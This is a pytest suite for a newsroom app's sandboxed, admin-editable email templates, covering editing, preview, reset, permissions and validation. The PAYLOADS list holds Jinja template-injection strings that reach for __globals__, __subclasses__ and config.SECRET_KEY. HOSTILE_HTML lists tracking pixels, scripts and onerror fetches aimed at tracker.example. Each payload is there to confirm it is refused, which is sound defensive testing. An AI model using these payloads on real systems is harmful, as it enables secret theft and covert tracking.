"""The desk's own wording of each email: edited, previewed, saved and reset from the admin pages, rendered in a
sandbox that can reach no token-making function, and sent by the real worker.

The first test proves that the wording path renders every event's default exactly as the file alone did.
"""

from __future__ import annotations

import html
import re
import time

import pytest
import sqlalchemy as sa
from flask import render_template
from itsdangerous import TimestampSigner
from jinja2.sandbox import SandboxedEnvironment

from tests.helpers import (
    Client,
    composed,
    error_summary,
    field_error,
    html_body,
    input_value,
    latest_link,
    link_in,
    outbox,
    plain_body,
    signed_in,
    text_of,
)
from workflow import ROOT
from workflow.extensions import db

ASSIGNED = "/admin/emails/submission.assigned"


# The file alone, as mail.render_bodies and subject_of rendered it before the wording could be edited ---------

def render_as_before(notification) -> tuple[str, str, str]:
    from flask import current_app

    from workflow.notifications.events import EVENTS, READERS
    from workflow.notifications.links import builders
    from workflow.notifications.mail import external_url, unsubscribe_url
    from workflow.notifications.render import localised

    # Days and moments carried as machine values are written for the reader when the email is rendered.
    params = localised(notification.event, notification.params or {})
    unsubscribe = unsubscribe_url(notification)
    for_readers = EVENTS[notification.event].audience == READERS  # newsletter readers have no preferences page
    context = {
        "notification": notification,
        "recipient": notification.recipient,
        "outlet": current_app.config["OUTLET_NAME"],
        "unsubscribe_url": unsubscribe,
        "preferences_url": external_url("notifications.preferences") if unsubscribe and not for_readers else None,
        "for_readers": for_readers,
        **builders(),
        **params,
    }
    template = f"emails/{notification.event}.html"
    html_part = render_template(template, layout="emails/_layout.html", **context)
    text_part = html.unescape(render_template(template, layout="emails/_layout.txt", **context))
    subject_params = {"outlet": current_app.config["OUTLET_NAME"], **params}
    subject = " ".join(SandboxedEnvironment(autoescape=False).from_string(EVENTS[notification.event].subject)
                       .render(**subject_params).split())
    return subject, text_part, html_part


def awkward(value):
    """Text that needs escaping in HTML and survives unescaping in the plain-text part."""
    if isinstance(value, str):
        return value + ' & <b>“bold”</b> "quoted" \'single\'\nand a second line'
    return value


def emptied(name, value):
    if name.endswith("_id"):
        return value
    if isinstance(value, bool):
        return False
    if isinstance(value, (int, float)):
        return 0
    if isinstance(value, list):
        return []
    return "" if isinstance(value, str) else None


@pytest.fixture
def frozen_tokens(monkeypatch):
    """Tokens signed at a fixed time, so that two renderings of one email carry the same links."""
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: int(time.time()) // 1000 * 1000)


def test_the_defaults_render_exactly_as_the_files_did_for_every_event(app, factory, frozen_tokens):
    from workflow.notifications import editing, email_files, mail
    from workflow.notifications.events import EVENTS
    from workflow.notifications.models import Notification
    from workflow.people.models import User

    person = factory.user("contributor", name="Zoë <O'Neil> & Co")
    with app.app_context():
        user = db.session.get(User, person.id)
        events = email_files.editable_events()
        assert set(events) >= {"submission.assigned", "account.reset_password", "account.invitation"}
        # Every email file in templates/emails is editable, and every editable event has its file, as on disk.
        files = {path.stem for path in (ROOT / "templates" / "emails").glob("*.html") if not path.name.startswith("_")}
        assert set(events) == files and files <= set(EVENTS)
        compared = 0
        for event in events:
            samples = editing.sample_params(event)
            if "user_id" in samples:
                samples["user_id"] = user.id
            variants = [
                {name: awkward(value) for name, value in samples.items()},
                {name: emptied(name, value) for name, value in samples.items()},
            ]
            for params in variants:
                for recipient in (user, None):
                    notification = Notification(event=event, params=params, email=user.email, recipient=recipient,
                                                recipient_id=recipient.id if recipient else None)
                    subject, text_part, html_part = render_as_before(notification)
                    assert mail.subject_of(notification) == subject, event
                    assert mail.render_bodies(notification) == (text_part, html_part), event
                    compared += 1
        assert compared == len(events) * 4


# Reading the edit page ------------------------------------------------------------------------------------

def textarea(response, name: str) -> str:
    """What a textarea shows (WTForms starts it with a line break that browsers drop)."""
    match = re.search(rf'<textarea[^>]*\bname="{name}"[^>]*>(.*?)</textarea>', response.get_data(as_text=True), re.S)
    assert match, f"no textarea {name}"
    return html.unescape(match.group(1)).removeprefix("\r\n").removeprefix("\n")


def preview_text(response) -> str:
    match = re.search(r'<pre id="preview-text"[^>]*>(.*?)</pre>', response.get_data(as_text=True), re.S)
    assert match, "no preview on the page"
    return html.unescape(match.group(1))


def preview_subject(response) -> str:
    match = re.search(r'<dd id="preview-subject">(.*?)</dd>', response.get_data(as_text=True), re.S)
    return html.unescape(match.group(1))


def stored_wording(app, event: str):
    from workflow.notifications.models import EmailTemplate

    with app.app_context():
        row = db.session.get(EmailTemplate, {"event": event, "language": "en"})  # the default language's
        return None if row is None else {"subject": row.subject, "blocks": dict(row.blocks),
                                         "updated_by_id": row.updated_by_id}


def the_form(client: Client, path: str) -> dict:
    """The edit form as the page fills it (what a browser would send back untouched)."""
    page = client.get(path)
    assert page.status_code == 200, page.status_code
    fields = {"subject": input_value(page, "subject")}
    for name in ("lead", "quote", "action_label", "next"):
        if f'name="{name}"' in page.get_data(as_text=True):
            fields[name] = textarea(page, name)
    return fields


@pytest.fixture
def editor(app, factory):
    person = factory.user("editor", email="sam.editor@example.org", name="Sam Editor")
    person.client = signed_in(app, person)
    return person


@pytest.fixture
def admin(app, factory):
    person = factory.user("admin", email="ada.admin@example.org", name="Ada Admin")
    person.client = signed_in(app, person)
    return person


NEW_LEAD = "Great news, {{ recipient.display_name }}: we commission “{{ headline }}”, edited by {{ editor }}."
NEW_SUBJECT = "Commissioned: {{ headline }} ({{ outlet }})"


# The journey: edit, preview, save, send, reset ------------------------------------------------------------

@pytest.mark.worker
def test_an_editor_rewords_the_commission_email_and_the_next_one_carries_it(app, factory, editor, worker, mailbox):
    listed = text_of(editor.client.get("/admin/emails"))
    assert "submission.assigned" in listed and "Default wording" in listed

    form = the_form(editor.client, ASSIGNED)
    assert form["subject"] == "Your pitch was commissioned: {{ headline }}"
    assert form["lead"].startswith("Good news: we are commissioning your story “{{ headline }}”.")
    assert set(form) == {"subject", "lead", "quote", "action_label", "next"}  # never the link

    form |= {"subject": NEW_SUBJECT, "lead": NEW_LEAD, "action_label": "Write it now"}
    preview = editor.client.post(ASSIGNED, {**form, "action": "preview"}, page=ASSIGNED)
    assert preview.status_code == 200, text_of(preview)
    shown = preview_text(preview)
    assert ("Great news, Rana Field: we commission “The night bakers of the old city”, edited by Sam Editor."
            in shown)
    assert "Write it now:\nhttp://desk.test/submissions/42" in shown
    assert "Stop emails like this one" in shown  # the footer, as the real email has it
    assert preview_subject(preview) == "Commissioned: The night bakers of the old city (Frontline Deeply)"
    assert textarea(preview, "lead") == NEW_LEAD  # the form keeps what was typed
    assert stored_wording(app, "submission.assigned") is None  # a preview saves nothing

    saved = editor.client.post(ASSIGNED, {**form, "action": "save"}, page=ASSIGNED)
    assert saved.status_code == 303, text_of(saved)
    assert "is saved" in text_of(editor.client.get(saved.location))
    stored = stored_wording(app, "submission.assigned")
    assert stored["subject"] == NEW_SUBJECT and stored["updated_by_id"] == editor.id
    assert set(stored["blocks"]) == {"lead", "action_label"}  # what stayed as the file has it is not copied
    assert "Customised on" in text_of(editor.client.get("/admin/emails"))
    assert "by Sam Editor" in text_of(editor.client.get("/admin/emails"))

    # The next real commission, delivered by the worker, says it; its link is still the story's own.
    reporter = factory.user("contributor", name="Rana Field")
    story = factory.submission(reporter, state="assigned", editor=editor, headline="Bread & salt at night")
    message = mailbox.wait_for_subject(reporter.email, "Commissioned: Bread & salt at night")
    assert message["Subject"] == "Commissioned: Bread & salt at night (Frontline Deeply)"
    text = plain_body(message).replace("\r\n", "\n")
    assert "Great news, Rana Field: we commission “Bread & salt at night”, edited by Sam Editor." in text
    assert f"Write it now:\nhttp://desk.test/submissions/{story.id}\n" in text
    assert link_in(message) == f"/submissions/{story.id}"
    assert "Deadline for the draft:" in text  # the blocks left alone keep the file's wording
    page = html_body(message)
    assert "we commission “Bread &amp; salt at night”" in page
    assert f'href="http://desk.test/submissions/{story.id}"' in page and ">Write it now</a>" in page
    assert message["List-Unsubscribe"].startswith("<http://desk.test/unsubscribe/")
    assert "Stop emails like this one" in text

    # Reset: a confirmation page, then the default wording again.
    confirm = editor.client.get(f"{ASSIGNED}/reset")
    assert confirm.status_code == 200 and "Reset to the default wording" in text_of(confirm)
    assert stored_wording(app, "submission.assigned") is not None  # asking is not doing
    reset = editor.client.post(f"{ASSIGNED}/reset", page=f"{ASSIGNED}/reset")
    assert reset.status_code == 303
    assert "default wording again" in text_of(editor.client.get(reset.location))
    assert stored_wording(app, "submission.assigned") is None
    assert the_form(editor.client, ASSIGNED)["lead"].startswith("Good news: we are commissioning")

    again = factory.submission(reporter, state="assigned", editor=editor, headline="Water trucks at dawn")
    message = mailbox.wait_for_subject(reporter.email, "Your pitch was commissioned: Water trucks at dawn")
    text = plain_body(message).replace("\r\n", "\n")
    assert "Good news: we are commissioning your story “Water trucks at dawn”." in text
    assert f"Start the draft:\nhttp://desk.test/submissions/{again.id}\n" in text


def test_saving_the_default_wording_unchanged_keeps_no_customisation(app, editor):
    form = the_form(editor.client, ASSIGNED)
    response = editor.client.post(ASSIGNED, {**form, "action": "save"}, page=ASSIGNED)
    assert response.status_code == 303
    assert stored_wording(app, "submission.assigned") is None
    assert "Default wording" in text_of(editor.client.get("/admin/emails"))


# The sandbox ----------------------------------------------------------------------------------------------

PAYLOADS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ headline.__class__ }}",
    "{{ recipient.__class__.__init__.__globals__ }}",
    "{{ reset_link(user_id) }}",
    "{{ confirm_link(1, 'someone@example.org') }}",
    "{{ invitation_link(1) }}",
    "{{ external_url('auth.reset_password', token='x') }}",
    "{{ url_for('auth.reset_password', token='x') }}",
    "{{ notification.recipient.email }}",
    "{{ recipient.password_hash }}{{ recipient.query }}",
    "{{ config.SECRET_KEY }}",
    "{{ self.__init__.__globals__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ headline.upper() }}",
    "{{ '%s'|format(headline) }}",
    "{{ headline|attr('__class__') }}",
    "{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}",
    "{% set x = 'a' * 100000000 %}{{ x }}",
    "{% include 'emails/account.reset_password.html' %}",
    "{% extends 'emails/_layout.html' %}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("action", ["preview", "save"])
def test_wording_reaches_no_function_no_model_and_no_token(app, editor, payload, action):
    form = the_form(editor.client, ASSIGNED) | {"lead": f"Hello {{{{ headline }}}}.\n{payload}"}
    response = editor.client.post(ASSIGNED, {**form, "action": action}, page=ASSIGNED)
    assert response.status_code == 422, (payload, response.status_code, text_of(response)[:500])
    page = response.get_data(as_text=True)
    assert field_error(response, "lead"), payload
    assert "There is a problem" in error_summary(response)
    assert textarea(response, "lead") == form["lead"]  # nothing typed is lost
    assert "/password/reset/" not in page and "/confirm/" not in page and "/invitation/" not in page
    assert "<class" not in html.unescape(page) and "SECRET" not in html.unescape(page).replace(payload, "")
    assert 'id="preview-text"' not in page
    assert stored_wording(app, "submission.assigned") is None


def test_the_error_names_the_line_and_what_is_refused(editor):
    form = the_form(editor.client, ASSIGNED)
    cases = {
        "Hello.\n{{ reset_link(user_id) }}": "Line 2: there is no “reset_link” in this email",
        "{{ headline.__class__ }}": "Line 1: “__class__” of a str cannot be used in an email.",
        "{{ headline.upper() }}": "Line 1: calling a function or method cannot be used",
        "One\ntwo\n{% for x in body %}{% endfor %}": "Line 3: {% for %} cannot be used",
    }
    for lead, expected in cases.items():
        response = editor.client.post(ASSIGNED, {**form, "lead": lead, "action": "preview"}, page=ASSIGNED)
        assert response.status_code == 422
        assert expected in field_error(response, "lead"), (lead, field_error(response, "lead"))


def test_a_stored_wording_that_fails_is_never_sent_and_the_default_goes_out(app, factory, editor):
    """Even wording written to the database behind the form's back cannot reach a token: it fails in the
    sandbox, and the email goes out in the default wording."""
    from workflow.notifications.models import EmailTemplate, Notification

    reporter = factory.user("contributor", name="Rana Field")
    story = factory.submission(reporter, state="assigned", editor=editor, headline="Bread at night")
    with app.app_context():
        db.session.add(EmailTemplate(event="submission.assigned", subject="{{ ''.__class__ }}",
                                     blocks={"lead": "{{ reset_link(user_id) }}{{ headline.__class__.__mro__ }}"}))
        db.session.commit()
        notification = db.session.scalars(sa.select(Notification).where(
            Notification.event == "submission.assigned", Notification.submission_id == story.id)).one()
        message = composed(notification)
    text = plain_body(message)
    assert message["Subject"] == "Your pitch was commissioned: Bread at night"
    assert "Good news: we are commissioning your story “Bread at night”." in text
    assert "/password/reset/" not in text and "class" not in text
    assert link_in(message) == f"/submissions/{story.id}"


# Validation -----------------------------------------------------------------------------------------------

def test_a_syntax_error_keeps_the_text_and_is_shown_next_to_its_field(app, editor):
    form = the_form(editor.client, ASSIGNED)
    typed = {"subject": "Commissioned: {{ headline }", "lead": "Dear reporter,\nyour story “{{ headline ”.",
             "action_label": "Start"}
    for action in ("preview", "save"):
        response = editor.client.post(ASSIGNED, {**form, **typed, "action": action}, page=ASSIGNED)
        assert response.status_code == 422
        assert field_error(response, "subject").startswith("Line 1:")
        assert field_error(response, "lead").startswith("Line 2:")
        assert field_error(response, "quote") == "" and field_error(response, "action_label") == ""
        assert input_value(response, "subject") == typed["subject"]
        assert textarea(response, "lead") == typed["lead"]
        assert textarea(response, "action_label") == "Start"
        assert textarea(response, "next") == form["next"]
        assert 'href="#lead"' in response.get_data(as_text=True)  # the summary leads to the field
    assert stored_wording(app, "submission.assigned") is None


@pytest.mark.parametrize(("subject", "message"), [
    ("", "Write a subject."),
    ("   ", "Write a subject."),
    ("Two\nlines", "A subject is one line: remove the line breaks."),
    ("x" * 301, "A subject has at most 300 characters."),
    ("{{ headline }} for {{ recipient.display_name }}", "there is no “recipient” in this email"),
])
def test_the_subject_is_one_short_line_over_the_params(editor, subject, message):
    form = the_form(editor.client, ASSIGNED) | {"subject": subject}
    response = editor.client.post(ASSIGNED, {**form, "action": "save"}, page=ASSIGNED)
    assert response.status_code == 422
    assert message in field_error(response, "subject")


def test_blocks_are_capped_and_the_button_needs_words(editor):
    form = the_form(editor.client, ASSIGNED)
    response = editor.client.post(ASSIGNED, {**form, "lead": "x" * 5001, "action_label": "  ", "action": "save"},
                                  page=ASSIGNED)
    assert response.status_code == 422
    assert field_error(response, "lead") == "At most 5,000 characters."
    assert field_error(response, "action_label") == "Write the label of the button."


# Who may do what ------------------------------------------------------------------------------------------

RESET_EMAIL = "/admin/emails/account.reset_password"


def test_an_editor_cannot_touch_the_account_emails_and_an_admin_can(app, factory, editor, admin):
    listed = text_of(editor.client.get("/admin/emails"))
    assert "account.reset_password Admins only" in listed
    assert editor.client.get(RESET_EMAIL).status_code == 403
    form = the_form(admin.client, RESET_EMAIL)
    changed = form | {"lead": "{{ outlet }}: someone asked for a new password for your account."}
    assert editor.client.post(RESET_EMAIL, {**changed, "action": "save"}, page="/admin/emails").status_code == 403
    assert editor.client.post(RESET_EMAIL + "/reset", page="/admin/emails").status_code == 403
    assert stored_wording(app, "account.reset_password") is None

    preview = admin.client.post(RESET_EMAIL, {**changed, "action": "preview"}, page=RESET_EMAIL)
    assert preview.status_code == 200
    shown = preview_text(preview)
    assert "Frontline Deeply: someone asked for a new password" in shown
    assert "/password/reset/preview-no-token" in shown  # a preview makes no token
    assert "Stop emails like this one" not in shown  # security mail has no unsubscribe
    assert admin.client.post(RESET_EMAIL, {**changed, "action": "save"}, page=RESET_EMAIL).status_code == 303
    assert stored_wording(app, "account.reset_password")["updated_by_id"] == admin.id

    # The real email carries the admin's wording and a reset link that works.
    visitor = Client(app)
    visitor.post("/password/forgot", {"email": editor.email}, page="/password/forgot")
    from tests.helpers import run_reset_requests
    run_reset_requests(app)

    message = outbox(app, editor.email, "Reset your password")[-1]
    assert "Frontline Deeply: someone asked for a new password for your account." in plain_body(message)
    link = latest_link(app, editor.email, "Reset your password")
    assert link.startswith("/password/reset/") and "preview" not in link
    assert visitor.get(link).status_code == 200

    assert admin.client.post(RESET_EMAIL + "/reset", page=RESET_EMAIL + "/reset").status_code == 303
    assert stored_wording(app, "account.reset_password") is None


PAGES = ["/admin/emails", ASSIGNED, RESET_EMAIL, f"{ASSIGNED}/reset"]


def test_contributors_get_403_and_visitors_are_sent_to_sign_in(app, factory):
    reporter = factory.user("contributor")
    contributor = signed_in(app, reporter)
    anonymous = Client(app)
    for path in PAGES:
        assert contributor.get(path).status_code == 403, path
        response = anonymous.get(path)
        assert response.status_code == 302 and response.location.startswith("/login"), path
    form = {"subject": "x", "lead": "y", "action": "save", "csrf_token": contributor.csrf_token("/account")}
    assert contributor.post(ASSIGNED, form).status_code == 403
    assert contributor.post(f"{ASSIGNED}/reset", page="/account").status_code == 403
    assert stored_wording(app, "submission.assigned") is None


def test_an_unknown_event_is_not_found(editor):
    assert editor.client.get("/admin/emails/no.such_event").status_code == 404
    assert editor.client.get("/admin/emails/..%2F_layout").status_code == 404


def test_every_email_can_be_opened_and_previewed_as_it_is(app, admin):
    from workflow.notifications import email_files

    with app.app_context():
        events = email_files.editable_events()
    for event in events:
        path = f"/admin/emails/{event}"
        form = the_form(admin.client, path)
        response = admin.client.post(path, {**form, "action": "preview"}, page=path)
        assert response.status_code == 200, (event, text_of(response)[:500])
        shown = preview_text(response)
        assert "preview-no-token" in shown or "/password/reset/" not in shown
        assert "Dear Rana Field," in shown or event == "account.invitation"
    assert stored_wording(app, "digest.daily") is None


def test_the_page_lists_the_names_of_the_event_and_no_function(editor):
    page = editor.client.get(ASSIGNED).get_data(as_text=True)
    table = page[page.index('id="names-title"'):]
    names = set(re.findall(r"<code>\{\{ ([\w.]+) \}\}</code>", table))
    assert {"headline", "editor", "deadline", "fee", "outlet", "recipient.display_name", "action_url",
            "unsubscribe_url"} <= names
    assert not names & {"submission_link", "reset_link", "confirm_link", "external_url", "notification", "user_id"}


# Nothing in the desk's wording tells a third party that an email was opened -----------------------------------

HOSTILE_HTML = [
    ('<img src="https://tracker.example/p.gif" width="1" height="1">',
     "Line 2: remove the image (emails carry no images from elsewhere)"),
    ("<IMG SRC=//tracker.example/p.gif>", "Line 2: remove the image (emails carry no images from elsewhere)"),
    ('<picture><source srcset="https://tracker.example/a.webp"></picture>', "Line 2: remove the image"),
    ('<svg><image href="https://tracker.example/p.svg"/></svg>', "Line 2: remove the image"),
    ('<span style="background:url(https://tracker.example/p.gif)">x</span>',
     "Line 2: remove the url() from the style (emails load nothing from elsewhere)"),
    ('<b style="color:red">x</b>', "Line 2: remove the style attribute"),
    ("<style>p { background: url(https://tracker.example/p.gif) }</style>", "Line 2: remove the <style>"),
    ('<link rel="stylesheet" href="https://tracker.example/s.css">', "Line 2: remove the <link>"),
    ('<iframe src="https://tracker.example/"></iframe>', "Line 2: remove the <iframe>"),
    ("<script>new Image().src='https://tracker.example/'</script>", "Line 2: remove the <script> (emails run no code)"),
    ('<a href="https://tracker.example/r?u=1">the guide</a>',
     "Line 2: remove the link to tracker.example: links may only lead to the desk"),
    ('<a href="http://desk.test.tracker.example/">the desk</a>',
     "Line 2: remove the link to desk.test.tracker.example: links may only lead to the desk"),
    ('<a href="javascript:alert(1)">x</a>', "Line 2: remove the link to"),
    ('<a href="/relative">x</a>', "Line 2: remove the link to"),
    ('<b onmouseover="fetch(1)">x</b>', "Line 2: remove the onmouseover attribute (emails run no code)"),
    ('<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>', "Line 2: remove the <table>"),
    ("<{{ 'img' }} src=https://tracker.example/p.gif>", "Remove the image (emails carry no images from elsewhere)"),
]


@pytest.mark.parametrize(("payload", "expected"), HOSTILE_HTML)
def test_saving_refuses_images_scripts_and_links_away_from_the_desk_and_says_what_must_go(
        app, editor, payload, expected):
    form = the_form(editor.client, ASSIGNED)
    lead = f"Good news about {{{{ headline }}}}.\n{payload}"
    for action in ("save", "preview"):
        response = editor.client.post(ASSIGNED, {**form, "lead": lead, "action": action}, page=ASSIGNED)
        assert response.status_code == 422, (payload, text_of(response)[:300])
        assert expected in field_error(response, "lead"), (payload, field_error(response, "lead"))
        assert textarea(response, "lead") == lead  # nothing typed is lost
        outside_the_form = re.sub(r"<textarea.*?</textarea>", "", response.get_data(as_text=True), flags=re.S)
        assert "srcdoc" not in outside_the_form  # no preview of it
        assert "//tracker.example" not in html.unescape(outside_the_form).replace(expected, "")
    assert stored_wording(app, "submission.assigned") is None


def test_links_to_the_desk_and_to_the_configured_hosts_are_kept(app, editor):
    form = the_form(editor.client, ASSIGNED)
    lead = ('Read <a href="http://desk.test/guide">our <b>guide</b></a> and '
            '<a href="https://frontline.example/style">the style book</a>, {{ headline }}.')
    refused = editor.client.post(ASSIGNED, {**form, "lead": lead, "action": "save"}, page=ASSIGNED)
    assert refused.status_code == 422
    assert field_error(refused, "lead") == ("Line 1: remove the link to frontline.example: "
                                            "links may only lead to the desk")
    assert "desk.test" not in field_error(refused, "lead")

    app.config["EMAIL_LINK_HOSTS"] = ("frontline.example",)
    preview = editor.client.post(ASSIGNED, {**form, "lead": lead, "action": "preview"}, page=ASSIGNED)
    assert preview.status_code == 200, field_error(preview, "lead")
    shown = html.unescape(re.search(r'srcdoc="([^"]*)"', preview.get_data(as_text=True)).group(1))
    assert 'href="http://desk.test/guide"' in shown and 'href="https://frontline.example/style"' in shown
    saved = editor.client.post(ASSIGNED, {**form, "lead": lead, "action": "save"}, page=ASSIGNED)
    assert saved.status_code == 303
    assert stored_wording(app, "submission.assigned")["blocks"]["lead"] == lead


@pytest.mark.worker
def test_a_wording_stored_before_with_a_pixel_is_sent_without_it(app, factory, editor, worker, mailbox):
    from workflow.notifications.models import EmailTemplate

    lead = ('Good news about “{{ headline }}”.<img src="https://tracker.example/p.gif?r={{ headline }}">'
            '<img src=x onerror="fetch(\'//tracker.example\')"><link rel=stylesheet href="https://tracker.example/c">'
            '<span style="background:url(https://tracker.example/b.gif)">Welcome</span>'
            '<script>fetch("https://tracker.example/s")</script>'
            ' Read <a href="https://tracker.example/r">this</a> or <a href="http://desk.test/guide">the guide</a>.')
    with app.app_context():
        db.session.add(EmailTemplate(event="submission.assigned", subject="Commissioned: {{ headline }}",
                                     blocks={"lead": lead}))
        db.session.commit()
    reporter = factory.user("contributor", name="Rana Field")
    factory.submission(reporter, state="assigned", editor=editor, headline="Bread at night")
    message = mailbox.wait_for_subject(reporter.email, "Commissioned: Bread at night")
    page = html_body(message)
    text = plain_body(message)
    assert "Good news about “Bread at night”." in page and "Welcome" in page  # the wording is still there
    assert 'href="http://desk.test/guide"' in page and ">this</a>" in page
    for body in (page, text):
        assert "tracker.example" not in body, body
        assert "<img" not in body and "<script" not in body and "<link" not in body and "url(" not in body
